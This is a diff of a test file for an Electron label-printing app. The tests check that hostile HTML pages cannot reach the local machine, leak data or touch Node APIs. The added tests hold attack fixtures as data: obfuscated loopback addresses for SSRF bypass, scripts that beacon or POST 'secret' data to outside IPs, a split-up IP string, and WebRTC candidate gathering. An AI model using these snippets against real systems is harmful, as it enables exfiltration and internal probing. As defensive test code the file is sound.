@@ -1,7 +1,10 @@
+import { createSocket } from 'node:dgram';
 import { labelHtml } from './label-html.ts';
 import { expect, type LabAnswer, test, textsOf } from './label-lab.ts';
+import { startOutside } from './outside.ts';
 import { withToken } from './partner-process.ts';
 import { setToken, stationPage } from './station-page.ts';
+import { expectHardWindows } from './window-preferences.ts';
 
 /** What a hostile page is told of its surroundings. */
 interface Around {
@@ -125,15 +128,6 @@ const PRINTED: readonly [string, (around: Around) => string, RegExp?][] = [
     'a service worker',
     ({ here }) => tried('service', `navigator.serviceWorker.register('${here}/service.js')`),
     /service: refused/,
-  ],
-  [
-    'WebRTC',
-    () =>
-      tried(
-        'rtc',
-        "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createOffer({ offerToReceiveAudio: true }).then(() => 'offer')",
-      ),
-    /rtc: /,
   ],
   [
     'where it is',
@@ -293,6 +287,144 @@ test('a page opened before is not printed in place of the one after it', async (
   await expectNext(label, labApp, first);
 });
 
+/** Every way to write an address of this machine; `outside` listens there. */
+const THIS_MACHINE = [
+  '127.0.0.1',
+  '127.1',
+  '0x7f.1',
+  '0x7f000001',
+  '2130706433',
+  '0177.0.0.1',
+  'localhost',
+  'LOCALHOST.',
+  'any.localhost',
+  '0.0.0.0',
+  '[::1]',
+  '[::ffff:127.0.0.1]',
+  '[0:0:0:0:0:ffff:7f00:1]',
+];
+
+test('nothing of this machine is given to a page but the partner’s own, however its address is written', async ({
+  label,
+  labApp,
+  host,
+  outside,
+}) => {
+  const [code = ''] = host.codes;
+  const asked = outside.requests.length;
+  const { port } = new URL(outside.url);
+  const parts = THIS_MACHINE.flatMap((name) => [
+    `<img src="http://${name}:${port}/a.png">`,
+    `<script src="//${name}:${port}/a.js"></script>`,
+    `<link rel="stylesheet" href="http://${name}:${port}/a.css">`,
+  ]);
+  const answer = await label(`${parts.join('')}<img src="/own.png">${drawn(code)}`);
+  expect(answer.problem).toBeNull();
+  // What is refused is not waited for.
+  expect(answer.settled?.quiet).toBe(true);
+  expect((await textsOf(answer)).join()).toContain(code);
+  expect(outside.requests.slice(asked)).toEqual([]);
+  expect(host.requests).toContain('GET /own.png');
+  const refused = await labApp.evaluate(() => labelLab.logged);
+  const hosts = new Set(THIS_MACHINE.map((name) => new URL(`http://${name}`).hostname));
+  expect(refused).toHaveLength(hosts.size);
+  expect(refused).toEqual(
+    [...hosts].map((named) =>
+      expect.objectContaining({ event: 'label part refused', host: named, why: 'not-public' }),
+    ),
+  );
+  expect(JSON.stringify(refused)).not.toContain('token');
+});
+
+test('a page of another host than the partner’s has no more of this machine than any other', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const answer = await label(`<img src="/private.png">${drawn(code)}`, { partner: [] });
+  expect(answer.problem).toBeNull();
+  expect(host.requests).not.toContain('GET /private.png');
+  expect(await labApp.evaluate(() => labelLab.logged)).toMatchObject([{ why: 'not-public' }]);
+});
+
+test('a script can turn to no host that the page does not name, nor send anything to one that it names', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  // Both are public addresses, of which nobody is asked: 'new' is put together, 'named' stands in the page.
+  const html = `${drawn(code)}<script>
+    const at = (...parts) => 'https://' + parts.join('.');
+    new Image().src = at(8, 8, 8, 8) + '/?secret';
+    fetch(at(8, 8, 4, 4), { mode: 'no-cors' }).catch(() => undefined);
+    fetch('https://9.9.9.9/', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined);
+  </script>`;
+  expect((await label(html)).problem).toBeNull();
+  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ host: '8.8.8.8', type: 'image', why: 'not-named' }),
+      expect.objectContaining({ host: '8.8.4.4', type: 'xhr', why: 'not-named' }),
+      expect.objectContaining({ host: '9.9.9.9', why: 'method' }),
+    ]),
+  );
+});
+
+test('a font is looked for where a stylesheet of the page says, and only there', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const font =
+    '<script>new FontFace("b", "url(http://10.255.255." + "2/b.woff)").load().catch(() => 0)</script>';
+  const html = `<link rel="stylesheet" href="/own.css">${drawn(code)}${font}`;
+  const answer = await label(html);
+  expect(answer.problem).toBeNull();
+  expect(answer.settled?.quiet).toBe(true);
+  // Named by the stylesheet, so that it is judged by its address; the other one nobody names.
+  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
+    expect.arrayContaining([
+      { event: 'label part refused', host: '10.255.255.1', type: 'font', why: 'not-public' },
+      { event: 'label part refused', host: '10.255.255.2', type: 'font', why: 'not-named' },
+    ]),
+  );
+});
+
+test('a part behind a certificate that nobody trusts is not asked for, be it the partner’s', async ({
+  label,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const { tlsUrl, reached, close } = await startOutside();
+  const partner = [new URL(host.url).origin, tlsUrl];
+  const answer = await label(`<img src="${tlsUrl}/a.png">${drawn(code)}`, { partner });
+  expect(answer.problem).toBeNull();
+  expect(reached).toEqual([]);
+  await close();
+});
+
+test('a page’s WebRTC sends no packet', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  let packets = 0;
+  const stun = createSocket('udp4', () => packets++);
+  await new Promise<void>((resolve) => stun.bind(0, resolve));
+  const { port } = stun.address();
+  const gathered = `new Promise((resolve) => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
+    const candidates = [];
+    connection.onicecandidate = ({ candidate }) =>
+      candidate === null ? resolve(candidates.length + ' candidates') : candidates.push(candidate);
+    connection.createDataChannel('x');
+    connection.setLocalDescription();
+  })`;
+  expect((await label(drawn(code) + tried('rtc', gathered))).problem).toBeNull();
+  await expect.poll(() => labApp.evaluate(() => labelLab.said)).toContain('rtc: 0 candidates');
+  expect(packets).toBe(0);
+  stun.close();
+});
+
 test('the whole app: a hostile page is printed with its label only, in the two windows, and so is the next', async ({
   bench,
   fakePartner,
@@ -324,4 +456,20 @@ test('the whole app: a hostile page is printed with its label only, in the two w
   // The station's, and at most one for each of the two documents that are worked on at a time.
   const windows = await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
   expect(windows).toBeLessThanOrEqual(3);
+  await expectHardWindows(app);
+  // A label page has neither Tem's preload nor Node.
+  const globals = await app.evaluate(({ BrowserWindow }) =>
+    Promise.all(
+      BrowserWindow.getAllWindows()
+        .filter(({ webContents }) => !webContents.getURL().startsWith('app:'))
+        .map(
+          ({ webContents }): Promise<unknown> =>
+            webContents.executeJavaScript(
+              "['tem', 'require', 'process', 'module'].filter((name) => name in globalThis)",
+            ),
+        ),
+    ),
+  );
+  expect(globals).not.toEqual([]);
+  expect(globals.flat()).toEqual([]);
 });
